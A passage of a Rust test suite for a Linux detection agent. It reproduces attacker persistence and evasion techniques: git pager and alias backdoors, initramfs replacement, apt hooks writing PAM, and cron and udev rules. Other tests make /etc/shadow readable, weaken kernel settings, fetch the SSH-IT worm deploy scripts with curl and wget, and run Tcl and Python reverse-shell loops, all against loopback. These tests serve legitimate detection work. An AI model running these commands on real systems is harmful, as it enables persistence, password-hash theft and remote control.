        assert_eq!(f.finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f.context.file_path.as_deref(), Some(hook.as_str()));
        // Low: hook managers (pre-commit, husky) write hooks as developers' ordinary work.
        assert_eq!(f.severity_label, SeverityLabel::Low);
    }
    // No SensitiveFileModified beside it: the name is the git check's.
    assert!(
        found
            .iter()
            .all(|f| !f.finding_type.ends_with("SensitiveFileModified")),
        "{:?}",
        kinds(&found)
    );
    // A script named like a hook outside a hooks directory raises nothing.
    let pid = sh(&format!("echo 'true' > {}/pre-commit", scratch.0.display()));
    let found = detect(pid);
    assert!(
        found.is_empty(),
        "a pre-commit file elsewhere: {:?}",
        kinds(&found)
    );
    // PANIX's pager, appended by a script (as its module does, `sed -i` under `[core]`).
    let config = format!("{home}/.gitconfig");
    let pid = sh_file(
        &scratch,
        "pager.sh",
        &format!(
            "sed -i '/^\\[core\\]/a \\        pager = nohup setsid /bin/true > /dev/null 2>\\&1 \\& ${{PAGER:-less}}' {config}\n"
        ),
    );
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-git-config");
    assert_eq!(f.len(), 1, "pager by sed: {:?}", kinds(&found));
    assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
    assert_eq!(f[0].context.file_path.as_deref(), Some(config.as_str()));
    assert_eq!(
        f[0].context
            .additional
            .get("gitSetting")
            .map(String::as_str),
        Some("core.pager")
    );
    // Set back with git config (a plain pager: nothing), then the backdoor's with git config.
    let found = detect(git_in(&[
        "config",
        "--global",
        "--replace-all",
        "core.pager",
        "less -R",
    ]));
    assert!(loud(&found).is_empty(), "plain pager: {:?}", kinds(&found));
    let found = detect(git_in(&[
        "config",
        "--global",
        "core.sshCommand",
        "ssh -o ProxyCommand='nc 127.0.0.1 9 %h %p'",
    ]));
    assert_eq!(
        of(&found, "behaviour-persistence-git-config").len(),
        1,
        "sshCommand by git config: {:?}",
        kinds(&found)
    );
    let found = detect(git_in(&[
        "config",
        "--global",
        "--unset",
        "core.sshCommand",
    ]));
    assert!(loud(&found).is_empty(), "unset: {:?}", kinds(&found));
    // A repository's own configuration, the XDG one, includes, the hooks directory and shell
    // aliases. Benign first: a clone (git writes the new repository's `.git/config` several
    // times), a person's settings in the repository, an alias of a git command and a plain
    // shell alias, hooks kept in the repository, a credential store, and a file named
    // `config` that is not git's.
    let clone = scratch.path("clone");
    let repo_config = format!("{repo}/.git/config");
    for args in [
        &["clone", "-q", repo.as_str(), clone.as_str()][..],
        &["-C", repo.as_str(), "config", "user.name", "Vigil Test"][..],
        &["-C", repo.as_str(), "config", "core.autocrlf", "input"][..],
        &["-C", repo.as_str(), "config", "core.editor", "vim"][..],
        &["-C", repo.as_str(), "config", "alias.co", "checkout"][..],
        &[
            "-C",
            repo.as_str(),
            "config",
            "alias.lg",
            "!git log --graph --oneline",
        ][..],
        &["-C", repo.as_str(), "config", "core.hooksPath", ".githooks"][..],
        &[
            "-C",
            repo.as_str(),
            "config",
            "include.path",
            "../team.gitconfig",
        ][..],
        &["config", "--global", "credential.helper", "store"][..],
    ] {
        let found = detect(git_in(args));
        assert!(loud(&found).is_empty(), "git {args:?}: {:?}", kinds(&found));
        assert!(
            of(&found, "behaviour-persistence-git-config").is_empty(),
            "git {args:?}: {:?}",
            kinds(&found)
        );
    }
    let pid = sh(&format!(
        "printf '[x]\\n\\ty = 1\\n' > {}/config",
        scratch.0.display()
    ));
    let found = detect(pid);
    assert!(found.is_empty(), "a file named config: {:?}", kinds(&found));
    // PANIX's pager set in the repository's configuration with git config.
    let found = detect(git_in(&[
        "-C",
        repo.as_str(),
        "config",
        "core.pager",
        "nohup setsid /bin/true > /dev/null 2>&1 & ${PAGER:-less}",
    ]));
    let f = of(&found, "behaviour-persistence-git-config");
    assert_eq!(f.len(), 1, "repository pager: {:?}", kinds(&found));
    assert_eq!(
        f[0].context.file_path.as_deref(),
        Some(repo_config.as_str())
    );
    let found = detect(git_in(&[
        "-C",
        repo.as_str(),
        "config",
        "--unset",
        "core.pager",
    ]));
    assert!(loud(&found).is_empty(), "pager unset: {:?}", kinds(&found));
    // A shell alias that backgrounds a payload, appended by a script.
    let pid = sh_file(
        &scratch,
        "alias.sh",
        &format!(
            "printf '[alias]\\n\\tst = \"!(nohup /bin/true >/dev/null 2>&1 &); git status\"\\n' >> {repo_config}\n"
        ),
    );
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-git-config");
    assert_eq!(f.len(), 1, "alias by a script: {:?}", kinds(&found));
    assert_eq!(
        f[0].context
            .additional
            .get("gitSetting")
            .map(String::as_str),
        Some("alias.st")
    );
    // The hooks directory moved to memory-backed storage, with git config.
    let found = detect(git_in(&[
        "config",
        "--global",
        "core.hooksPath",
        "/dev/shm/.vigil-hooks",
    ]));
    assert_eq!(
        of(&found, "behaviour-persistence-git-config").len(),
        1,
        "hooksPath: {:?}",
        kinds(&found)
    );
    // The XDG configuration written by a script, including a file from /tmp.
    let xdg = format!("{home}/.config/git/config");
    let pid = sh(&format!(
        "mkdir -p {home}/.config/git && printf '[include]\\n\\tpath = /tmp/.vigil-gitconfig\\n' > {xdg}"
    ));
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-git-config");
    assert_eq!(f.len(), 1, "XDG include: {:?}", kinds(&found));
    assert_eq!(f[0].context.file_path.as_deref(), Some(xdg.as_str()));
    for args in [
        &["-C", repo.as_str(), "config", "--unset", "alias.st"][..],
        &["config", "--global", "--unset", "core.hooksPath"][..],
    ] {
        git_in(args);
    }
    std::fs::remove_file(&xdg).expect("XDG configuration removed");
    // A commit runs the hook (git's child): judged by what it does, not raised as a write.
    std::fs::remove_file(&hook).expect("hook removed");
    let found = detect(git_in(&[
        "-C",
        repo.as_str(),
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "vigil",
    ]));
    assert!(loud(&found).is_empty(), "commit: {:?}", kinds(&found));
}

/// PANIX's `setup_initramfs`: a repacked initramfs image copied over the image in `/boot`
/// (here a copy of `true` as `/boot/initrd.img-NONCE`, and one moved into place as
/// `/boot/initramfs-NONCE.img`), by a script; the same for the kernel (`/boot/vmlinuz-NONCE`)
/// and a unified kernel image on the EFI system partition. Reading an image raises nothing. The builders'
/// side (update-initramfs, dracut) is the table test's: neither is installed on this machine.
#[test]
fn an_initramfs_image_replaced_in_boot() {
    if !privileged("an_initramfs_image_replaced_in_boot") {
        return;
    }
    if !Path::new("/boot").is_dir() {
        eprintln!("NOT TESTED initramfs image: no /boot");
        return;
    }
    if Path::new("/usr/sbin/update-initramfs").exists() {
        eprintln!("update-initramfs is installed: its benign side is the table test's here too");
    } else {
        eprintln!("NOT TESTED update-initramfs -u (benign side): not installed; table test only");
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("initramfs");
    let image = clean.file(format!("/boot/initrd.img-{n}"));
    let other = clean.file(format!("/boot/initramfs-{n}.img"));
    let kernel = clean.file(format!("/boot/vmlinuz-{n}"));
    // A unified kernel image on the EFI system partition (made here when the machine has
    // none; removed after, with the directories the test made).
    clean.dirs(Path::new("/boot/efi/EFI/Linux"));
    let uki = clean.file(format!("/boot/efi/EFI/Linux/vigil-{n}.efi"));
    let staged = scratch.path("repacked.img");
    let pid = sh_file(
        &scratch,
        "repack.sh",
        &format!(
            "cp /bin/true {image}\ncp /bin/true {staged}\nmv {staged} {other}\n\
             cp /bin/true {kernel}\ncp /bin/true {uki}\n"
        ),
    );
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-boot");
    for path in [&image, &other, &kernel, &uki] {
        assert!(
            f.iter()
                .any(|f| f.context.file_path.as_deref() == Some(path.as_str())
                    && f.finding_type == "Persistence:Runtime/SuspiciousCommand"),
            "{path}: {:?}",
            kinds(&found)
        );
    }
    let pid = sh(&format!("cat {image} {other} {kernel} {uki} > /dev/null"));
    let found = detect(pid);
    assert!(found.is_empty(), "reading the images: {:?}", kinds(&found));
}

/// PANIX's package-manager persistence through apt: an `APT::Update::Pre-Invoke` command (given
/// with `-o` here, so nothing is left in `/etc/apt/apt.conf.d/`) writing a PAM service when
/// `apt-get update` runs (no sources: nothing leaves the machine). apt's hooks are apt's
/// children, not a package manager's: the write raises `behaviour-persistence-pam` and
/// `PrivilegeEscalation:Runtime/SensitiveFileModified`, as the same write from a shell does.
#[test]
fn an_apt_hook_writing_pam_is_not_installation() {
    if !privileged("an_apt_hook_writing_pam_is_not_installation") {
        return;
    }
    if !Path::new("/usr/bin/apt-get").exists() {
        eprintln!("NOT TESTED apt hook: no /usr/bin/apt-get");
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let pam = clean.file(format!("/etc/pam.d/vigil-apt-{n}"));
    let scratch = Scratch::new("apt-hook");
    let parts = scratch.path("sources.list.d");
    std::fs::create_dir_all(&parts).expect("sources");
    let list = scratch.path("sources.list");
    std::fs::write(&list, "").expect("sources.list");
    let pid = run(Command::new("apt-get").args([
        "update",
        "-qq",
        "-o",
        &format!("Dir::Etc::SourceList={list}"),
        "-o",
        &format!("Dir::Etc::SourceParts={parts}"),
        "-o",
        &format!("APT::Update::Pre-Invoke::=echo '# vigil test' > {pam}"),
    ]));
    assert!(Path::new(&pam).exists(), "the hook ran");
    let found = detect(pid);
    assert!(
        of(&found, "behaviour-persistence-pam")
            .iter()
            .any(|f| f.context.file_path.as_deref() == Some(pam.as_str())),
        "{:?}",
        kinds(&found)
    );
    assert!(
        found.iter().any(
            |f| f.finding_type == "PrivilegeEscalation:Runtime/SensitiveFileModified"
                && f.context.file_path.as_deref() == Some(pam.as_str())
        ),
        "{:?}",
        kinds(&found)
    );
}

/// DataDog's Cloud Workload Security rules (`cron_at_job_creation_*`, `udev_modification`,
/// `nsswitch_conf_mod_*`): a table in busybox crond's `/etc/crontabs/`, a udev rule in the
/// runtime and administrator directories (`/run/udev/rules.d/`, `/usr/local/lib/udev/rules.d/`)
/// and a module added to the name service switch, each by a shell's redirection or `sed -i`.
/// Reading them raises nothing.
#[test]
fn busybox_cron_tables_udev_runtime_rules_and_the_name_service_switch_written_as_persistence() {
    if !privileged(
        "busybox_cron_tables_udev_runtime_rules_and_the_name_service_switch_written_as_persistence",
    ) {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    for dir in [
        "/etc/crontabs",
        "/run/udev/rules.d",
        "/usr/local/lib/udev/rules.d",
    ] {
        clean.dirs(Path::new(dir));
    }
    let _nsswitch = RestoreFile::new("/etc/nsswitch.conf");
    let crontab = clean.file(format!("/etc/crontabs/vigil-{n}"));
    let run_rule = clean.file(format!("/run/udev/rules.d/99-vigil-{n}.rules"));
    let local_rule = clean.file(format!("/usr/local/lib/udev/rules.d/99-vigil-{n}.rules"));
    let cases = [
        (
            crontab,
            "behaviour-persistence-cron",
            "cron",
            "echo '* * * * * /dev/shm/vigil-none' > FILE",
        ),
        (
            run_rule,
            "behaviour-persistence-udev",
            "udev",
            "echo 'ACTION==\"add\", RUN+=\"/dev/shm/vigil-none\"' > FILE",
        ),
        (
            local_rule,
            "behaviour-persistence-udev",
            "udev",
            "echo 'ACTION==\"add\", RUN+=\"/dev/shm/vigil-none\"' > FILE",
        ),
        (
            "/etc/nsswitch.conf".to_owned(),
            "behaviour-persistence-nss",
            "nss",
            "echo '# vigil test' >> FILE",
        ),
    ];
    for (path, rule, kind, script) in &cases {
        let pid = sh(&script.replace("FILE", path));
        let found = detect(pid);
        expect_persistence(&found, rule, kind, path, script);
        assert!(
            found
                .iter()
                .any(|f| f.finding_type == "Persistence:Runtime/SensitiveFileModified"),
            "{path}: {:?}",
            kinds(&found)
        );
    }
    // sed -i replaces the file through a rename onto it, as DataDog's rule names.
    let pid = sh("sed -i 's/^# vigil test$/# vigil test again/' /etc/nsswitch.conf");
    expect_persistence(
        &detect(pid),
        "behaviour-persistence-nss",
        "nss",
        "/etc/nsswitch.conf",
        "sed -i",
    );
    // Benign: reading them.
    let all: Vec<&str> = cases.iter().map(|(p, _, _, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
}

/// Elastic's endpoint behaviour rules for Linux, the files past the stored listing, as the tools
/// do them: curl and wget fetching THC's deploy scripts of the SSH-IT worm and gsocket ("Potential
/// SSH-IT SSH Worm Downloaded"; the host resolved to, or proxied through, loopback), python
/// one-liners that exec a program hidden with rot13 or binascii ("Suspicious Python Encoded
/// Payload Execution"), and programs of the test's own run under the names of "Potential Linux
/// Hack Tool Launched" that the tool rules lacked. Each raises its rule at its level; curl
/// fetching the worm's documentation page and a one-liner that only prints what it decodes raise
/// none.
#[test]
fn thc_deploy_scripts_encoded_python_one_liners_and_hack_tool_names() {
    if !privileged("thc_deploy_scripts_encoded_python_one_liners_and_hack_tool_names") {
        return;
    }
    let raised = |pid: u32, what: &str, rule_id: &str, t: &str, label: SeverityLabel| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert!(
            !f.is_empty()
                && f.iter()
                    .all(|f| f.finding_type == t && f.severity_label == label),
            "{what}: {:?}",
            kinds(&found)
        );
    };
    let none_of = |pid: u32, what: &str, rule_id: &str| {
        let found = detect(pid);
        assert!(
            of(&found, rule_id).is_empty(),
            "{what}: {:?}",
            kinds(&found)
        );
    };
    const TOOL: &str = "Execution:Runtime/SuspiciousTool";
    const COMMAND: &str = "Execution:Runtime/SuspiciousCommand";

    // THC's deploy scripts: nothing leaves the machine (the name resolves to loopback, where
    // nothing listens on 443; wget asks the loopback server as its proxy).
    raised(
        run(Command::new("curl").args([
            "-s",
            "-m",
            "3",
            "--resolve",
            "thc.org:443:127.0.0.1",
            "-o",
            "/dev/null",
            "https://thc.org/ssh-it/x",
        ])),
        "curl https://thc.org/ssh-it/x",
        "tool-thc-deploy-download",
        TOOL,
        SeverityLabel::High,
    );
    let proxy = http_server();
    raised(
        run(Command::new("wget").args([
            "-q",
            "-T",
            "3",
            "-t",
            "1",
            "-e",
            "use_proxy=on",
            "-e",
            &format!("http_proxy={proxy}"),
            "-O",
            "/dev/null",
            "http://nossl.segfault.net/ssh-it-deploy.sh",
        ])),
        "wget http://nossl.segfault.net/ssh-it-deploy.sh",
        "tool-thc-deploy-download",
        TOOL,
        SeverityLabel::High,
    );
    none_of(
        run(Command::new("curl").args([
            "-s",
            "-m",
            "3",
            "--resolve",
            "thc.org:443:127.0.0.1",
            "-o",
            "/dev/null",
            "https://thc.org/ssh-it/",
        ])),
        "curl https://thc.org/ssh-it/",
        "tool-thc-deploy-download",
    );

    // Encoded python one-liners, run by python itself (and whatever version manager stands
    // before it: each program of the chain given the line is one).
    let Ok(python) = which("python3") else {
        not_tested("NOT TESTED encoded python one-liners: no python3 on this machine");
        return;
    };
    for (line, what) in [
        (
            "import codecs;exec(codecs.decode('cevag(1)','rot13'))",
            "exec(codecs.decode(..., 'rot13'))",
        ),
        (
            "import binascii;exec(binascii.a2b_base64('cHJpbnQoMSk='))",
            "exec(binascii.a2b_base64(...))",
        ),
    ] {
        raised(
            run(Command::new(&python).args(["-c", line])),
            what,
            "exec-interpreter-decoded-program",
            COMMAND,
            SeverityLabel::High,
        );
    }
    none_of(
        run(Command::new(&python)
            .args(["-c", "import codecs;print(codecs.decode('uryyb','rot13'))"])),
        "print(codecs.decode(..., 'rot13'))",
        "exec-interpreter-decoded-program",
    );

    // The hack tools' names, on copies of true in the scratch directory.
    let dir = Scratch::new("hack-tools");
    for (name, rule_id, label) in [
        ("whatweb", "tool-web-scanner", SeverityLabel::Medium),
        ("commix", "tool-web-scanner", SeverityLabel::Medium),
        ("fcrackzip", "tool-password-cracker", SeverityLabel::High),
        ("netdiscover", "tool-masscan", SeverityLabel::Medium),
        ("yersinia", "tool-mitm", SeverityLabel::High),
        ("pspy64s", "tool-privesc-enumeration", SeverityLabel::Medium),
        ("evil-winrm", "tool-c2-framework", SeverityLabel::High),
    ] {
        let path = dir.path(name);
        std::fs::copy("/bin/true", &path).expect("copy true");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        raised(run(&mut Command::new(&path)), name, rule_id, TOOL, label);
    }
}

/// The findings of `found` at Medium or above, as `(type, ruleId)`.
fn loud(found: &[Finding]) -> Vec<(String, String)> {
    let loud: Vec<Finding> = found
        .iter()
        .filter(|f| f.severity_label >= SeverityLabel::Medium)
        .cloned()
        .collect();
    kinds(&loud)
}

#[test]
fn kernel_settings_files_written_with_a_weak_setting() {
    if !privileged("kernel_settings_files_written_with_a_weak_setting") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/run/sysctl.d"));
    clean.dirs(Path::new("/usr/local/lib/sysctl.d"));
    let etc = clean.file(format!("/etc/sysctl.d/99-{n}.conf"));
    let run_dir = clean.file(format!("/run/sysctl.d/99-{n}.conf"));
    let local = clean.file(format!("/usr/local/lib/sysctl.d/99-{n}.conf"));
    let usr = clean.file(format!("/usr/lib/sysctl.d/99-{n}.conf"));
    let evasion = "DefenseEvasion:Runtime/SensitiveFileModified";
    let weakened = "behaviour-sysctl-file-weakened";
    let raised = |pid: u32, t: &str, setting: &str, value: &str, file: &str| {
        let found = detect(pid);
        let f = of(&found, weakened);
        assert_eq!(f.len(), 1, "{file}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, t, "{file}");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{file}");
        assert_eq!(f[0].context.file_path.as_deref(), Some(file));
        let a = &f[0].context.additional;
        assert_eq!(a["setting"], setting, "{file}");
        assert_eq!(a["value"], value, "{file}");
    };
    // Atomic Red Team's and an admin's ways: a redirection, spaces and a comment, the slash
    // form and the `-` prefix, several settings, python writing the file.
    let pid = sh(&format!("echo kernel.randomize_va_space=0 > {etc}"));
    raised(pid, evasion, "kernel.randomize_va_space", "0", &etc);
    let pid = sh(&format!(
        "printf '# tuning\\nnet.ipv4.ip_forward = 1\\nkernel.randomize_va_space = 0\\n' > {etc}"
    ));
    raised(pid, evasion, "kernel.randomize_va_space", "0", &etc);
    let pid = sh(&format!(
        "printf 'kernel/yama/ptrace_scope=0\\n-kernel.kptr_restrict = 0\\n' > {run_dir}"
    ));
    // Yama may be absent from this kernel: the file is what counts.
    raised(pid, evasion, "kernel.yama.ptrace_scope", "0", &run_dir);
    let pid = sh(&format!("echo 'kernel.core_pattern=|/tmp/x %p' > {local}"));
    raised(
        pid,
        "PrivilegeEscalation:Runtime/SensitiveFileModified",
        "kernel.core_pattern",
        "|/tmp/x %p",
        &local,
    );
    let pid = run(Command::new("python3").args([
        "-c",
        &format!(
            "open('{usr}', 'w').write('fs.protected_symlinks=0\\nfs.protected_hardlinks = 0\\n')"
        ),
    ]));
    raised(pid, evasion, "fs.protected_symlinks", "0", &usr);
    // Ordinary tuning and full randomisation: nothing at Medium or above.
    for text in [
        "vm.swappiness=10",
        "kernel.randomize_va_space = 2",
        "#kernel.kptr_restrict=0",
    ] {
        let pid = sh(&format!("echo '{text}' > {etc}"));
        let found = detect(pid);
        assert!(loud(&found).is_empty(), "{text}: {:?}", kinds(&found));
    }
}

/// Puts back the modes of files a test changes, when dropped (a failed assertion included).
struct RestoreModes(Vec<(String, u32)>);

impl RestoreModes {
    fn of(paths: &[&str]) -> Self {
        Self(
            paths
                .iter()
                .map(|p| {
                    let mode = std::fs::metadata(p).expect("stat").permissions().mode() & 0o7777;
                    ((*p).to_owned(), mode)
                })
                .collect(),
        )
    }
}

impl Drop for RestoreModes {
    fn drop(&mut self) {
        for (path, mode) in &self.0 {
            let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode));
        }
    }
}

#[test]
fn the_password_hashes_made_readable_by_every_account() {
    if !privileged("the_password_hashes_made_readable_by_every_account") {
        return;
    }
    // The account files are shared with the tests that add accounts: their tools copy
    // `/etc/shadow`'s mode to the file they rename into place.
    let _one_at_a_time = ACCOUNTS.lock().unwrap_or_else(|e| e.into_inner());
    let restore = RestoreModes::of(&["/etc/shadow", "/etc/gshadow"]);
    let was = |path: &str| {
        restore
            .0
            .iter()
            .find(|(p, _)| p == path)
            .map(|(_, m)| *m)
            .expect("mode kept")
    };
    let put_back = |path: &str| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(was(path)))
            .expect("put the mode back");
    };
    let exposed = "behaviour-password-hashes-exposed";
    let raised = |pid: u32, path: &str, mode: &str, how: &str| {
        let found = detect(pid);
        let f = of(&found, exposed);
        assert_eq!(f.len(), 1, "{how}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type, "PrivilegeEscalation:Runtime/SensitiveFileModified",
            "{how}"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{how}");
        assert_eq!(f[0].context.file_path.as_deref(), Some(path), "{how}");
        assert_eq!(f[0].context.additional["mode"], mode, "{how}");
    };
    let pid = run(Command::new("chmod").args(["0644", "/etc/shadow"]));
    put_back("/etc/shadow");
    raised(pid, "/etc/shadow", "0644", "chmod 0644");
    let pid = run(Command::new("chmod").args(["o+r", "/etc/gshadow"]));
    put_back("/etc/gshadow");
    raised(
        pid,
        "/etc/gshadow",
        &format!("{:04o}", was("/etc/gshadow") | 0o004),
        "chmod o+r",
    );
    let pid =
        run(Command::new("python3").args(["-c", "import os; os.chmod('/etc/shadow', 0o604)"]));
    put_back("/etc/shadow");
    raised(pid, "/etc/shadow", "0604", "python os.chmod");
    // Through a descriptor (`fchmod`): no path is passed, the kernel's file is the one judged.
    let pid = run(Command::new("python3").args([
        "-c",
        "import os; fd = os.open('/etc//shadow', os.O_RDONLY); os.fchmod(fd, 0o644)",
    ]));
    put_back("/etc/shadow");
    raised(pid, "/etc/shadow", "0644", "python os.fchmod");
    // The distribution's own modes given again: nothing at Medium or above.
    for mode in ["0640", "0600", "o-r"] {
        let pid = run(Command::new("chmod").args([mode, "/etc/shadow"]));
        put_back("/etc/shadow");
        let found = detect(pid);
        assert!(loud(&found).is_empty(), "chmod {mode}: {:?}", kinds(&found));
    }
    // Given to one account or group by a chown (the files keep `0640`): the ids the kernel
    // was asked for, the mode read back. Put back by this process, which the agent does not
    // observe, whether the test passes or not.
    let _owners = RestoreOwners::of(&["/etc/shadow", "/etc/gshadow"]);
    let owned = |what: &str, program: &str, args: &[&str], to: &str| {
        let pid = run(Command::new(program).args(args));
        _owners.put_back();
        let found = detect(pid);
        let f = of(&found, exposed);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{what}");
        assert_eq!(f[0].context.additional["madeAccessibleTo"], to, "{what}");
    };
    owned(
        "chown nobody",
        "chown",
        &["nobody", "/etc/shadow"],
        "owner uid 65534",
    );
    owned(
        "chgrp users",
        "chgrp",
        &["users", "/etc/gshadow"],
        "group users (100)",
    );
    owned(
        "python os.chown to gid 100",
        "python3",
        &["-c", "import os; os.chown('/etc/shadow', -1, 100)"],
        "group users (100)",
    );
    owned(
        "python os.fchown on a descriptor",
        "python3",
        &[
            "-c",
            "import os; os.fchown(os.open('/etc/gshadow', os.O_RDONLY), 65534, -1)",
        ],
        "owner uid 65534",
    );
    // The distribution's owners given again: not this check's.
    for args in [["root:shadow", "/etc/shadow"], ["root", "/etc/gshadow"]] {
        let pid = run(Command::new("chown").args(args));
        _owners.put_back();
        let found = detect(pid);
        assert!(
            of(&found, exposed).is_empty(),
            "chown {args:?}: {:?}",
            kinds(&found)
        );
    }
    // Given through an access ACL (`setfacl`): the ACL read back. Removed by this process,
    // unobserved, and the modes put back (an ACL's mask is the group bits).
    let Ok(setfacl) = which("setfacl") else {
        not_tested("NOT TESTED the password hashes given through an ACL: no setfacl");
        return;
    };
    let drop_acl = || {
        for path in [c"/etc/shadow", c"/etc/gshadow"] {
            // SAFETY: NUL-terminated strings; a file without an ACL answers ENODATA.
            unsafe { libc::removexattr(path.as_ptr(), c"system.posix_acl_access".as_ptr()) };
        }
        put_back("/etc/shadow");
        put_back("/etc/gshadow");
    };
    let acl = |what: &str, args: &[&str]| {
        let pid = run(Command::new(&setfacl).args(args));
        let found = detect(pid);
        drop_acl();
        of(&found, exposed)
            .iter()
            .map(|f| {
                assert_eq!(f.severity_label, SeverityLabel::High, "{what}");
                f.context.additional["madeAccessibleTo"].clone()
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(
        acl("a user", &["-m", "u:nobody:r", "/etc/shadow"]),
        ["acl uid 65534"]
    );
    assert_eq!(
        acl("a group", &["-m", "g:users:rw", "/etc/gshadow"]),
        ["acl group users (100)"]
    );
    // The distribution's group and root named in an ACL: nothing of this rule.
    assert!(acl("shadow", &["-m", "g:shadow:r", "/etc/shadow"]).is_empty());
    assert!(acl("root", &["-m", "u:root:rw", "/etc/shadow"]).is_empty());
    // The same ACL through `setxattrat` (Linux 6.13: x86_64's 463), by path and, with
    // `AT_EMPTY_PATH`, by descriptor: what setfacl does not call.
    if !std::fs::read_to_string("/proc/kallsyms").is_ok_and(|k| k.contains("sys_setxattrat")) {
        not_tested("NOT TESTED setxattrat: this kernel has no such system call (before 6.13)");
        return;
    }
    let setxattrat = |what: &str, target: &str| {
        let program = format!(
            r#"import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
entries = [(1, 6, 0xffffffff), (2, 4, 65534), (4, 4, 0xffffffff), (0x10, 4, 0xffffffff), (0x20, 0, 0xffffffff)]
blob = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', *e) for e in entries)
value = ctypes.create_string_buffer(blob, len(blob))
args = ctypes.create_string_buffer(struct.pack('<QII', ctypes.addressof(value), len(blob), 0), 16)
L = ctypes.c_long
{target}
if r != 0:
    raise SystemExit('setxattrat: errno %d' % ctypes.get_errno())
"#
        );
        let pid = run(Command::new("python3").args(["-c", &program]));
        let found = detect(pid);
        drop_acl();
        of(&found, exposed)
            .iter()
            .map(|f| {
                assert_eq!(f.severity_label, SeverityLabel::High, "{what}");
                f.context.additional["madeAccessibleTo"].clone()
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(
        setxattrat(
            "by path",
            "r = libc.syscall(L(463), L(-100), b'/etc/shadow', L(0), b'system.posix_acl_access', args, L(16))"
        ),
        ["acl uid 65534"]
    );
    assert_eq!(
        setxattrat(
            "by descriptor",
            "fd = os.open('/etc/gshadow', os.O_RDONLY)\nr = libc.syscall(L(463), L(fd), b'', L(0x1000), b'system.posix_acl_access', args, L(16))"
        ),
        ["acl uid 65534"]
    );
}

/// Files' owners and groups, put back when dropped or asked.
struct RestoreOwners(Vec<(String, u32, u32)>);

impl RestoreOwners {
    fn of(paths: &[&str]) -> Self {
        use std::os::unix::fs::MetadataExt;
        Self(
            paths
                .iter()
                .map(|p| {
                    let m = std::fs::metadata(p).expect("owner kept");
                    ((*p).to_owned(), m.uid(), m.gid())
                })
                .collect(),
        )
    }

    fn put_back(&self) {
        for (path, uid, gid) in &self.0 {
            let _ = std::os::unix::fs::chown(path, Some(*uid), Some(*gid));
        }
    }
}

impl Drop for RestoreOwners {
    fn drop(&mut self) {
        self.put_back();
    }
}

/// A listener on 127.0.0.1 that sends each of `commands` as a line to the first connection and
/// reads what comes back; returns its port and the thread (joined for what it read).
fn command_peer(commands: &'static [&'static str]) -> (u16, std::thread::JoinHandle<String>) {
    use std::io::Read as _;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
    let port = listener.local_addr().expect("local address").port();
    let peer = std::thread::spawn(move || {
        let Ok((mut conn, _)) = listener.accept() else {
            return String::new();
        };
        let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
        let mut got = String::new();
        for c in commands {
            let _ = conn.write_all(format!("{c}\n").as_bytes());
            std::thread::sleep(Duration::from_millis(500));
            let mut buf = [0u8; 4096];
            if let Ok(n) = conn.read(&mut buf) {
                got.push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        }
        got
    });
    (port, peer)
}

#[test]
fn interpreter_loops_that_run_what_a_socket_sends() {
    if !privileged("interpreter_loops_that_run_what_a_socket_sends") {
        return;
    }
    let Ok(tclsh) = which("tclsh") else {
        not_tested("NOT TESTED tcl command loop: no tclsh");
        return;
    };
    let looped = "behaviour-reverse-shell-command-loop";
    let raised = |pid: u32, how: &str, got: &str| {
        assert!(got.contains("uid=0"), "{how}: the peer read {got:?}");
        let found = detect(pid);
        let f = of(&found, looped);
        assert!(!f.is_empty(), "{how}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell", "{how}");
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{how}");
        assert!(
            f[0].context.additional["connectedTo"].starts_with("127.0.0.1:"),
            "{how}"
        );
    };
    // revshells.com's Tcl form, its program on tclsh's standard input.
    let (port, peer) = command_peer(&["id", "uname -a"]);
    let program = format!(
        "set s [socket 127.0.0.1 {port}]; while {{[gets $s c] >= 0}} {{ catch {{exec {{*}}$c}} r; \
         puts $s $r; flush $s }}"
    );
    let pid = run_with_input(&mut Command::new(&tclsh), program.as_bytes());
    raised(pid, "tclsh exec loop", &peer.join().unwrap_or_default());
    // python's recv loop with `shell=True`: the line keeps its newline.
    let (port, peer) = command_peer(&["id"]);
    let pid = run(Command::new("python3").args([
        "-c",
        &format!(
            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
             while True:\n  c=s.recv(1024)\n  if not c: break\n  \
             s.sendall(subprocess.run(c.decode(),shell=True,capture_output=True).stdout)"
        ),
    ]));
    raised(pid, "python recv loop", &peer.join().unwrap_or_default());
    // tclsh running a program with no connection, and python fetching a page and then
    // running commands it wrote itself: nothing at Medium or above.
    let pid = run_with_input(&mut Command::new(&tclsh), b"puts [exec uname -r]\n");
    let found = detect(pid);
